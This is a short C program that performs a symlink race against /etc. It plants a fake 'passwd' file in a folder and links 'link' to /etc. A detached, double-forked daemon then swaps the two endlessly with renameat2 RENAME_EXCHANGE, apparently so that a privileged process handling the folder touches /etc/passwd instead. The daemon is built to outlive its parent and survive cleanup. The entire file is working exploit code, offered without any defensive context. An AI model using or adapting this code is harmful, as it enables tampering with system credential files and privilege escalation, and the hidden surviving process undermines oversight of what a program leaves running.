/* Swap a folder for a link to /etc, back and forth, from a daemon that wants to live through the collection. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    mkdir("folder", 0755);
    FILE *file = fopen("folder/passwd", "w");
    fputs("mine", file);
    fclose(file);
    symlink("/etc", "link");
    if (fork() == 0) {
        setsid();
        if (fork() == 0)
            for (;;) /* RENAME_EXCHANGE */
                syscall(SYS_renameat2, AT_FDCWD, "folder", AT_FDCWD, "link", 2);
        _exit(0);
    }
    usleep(200000);
}
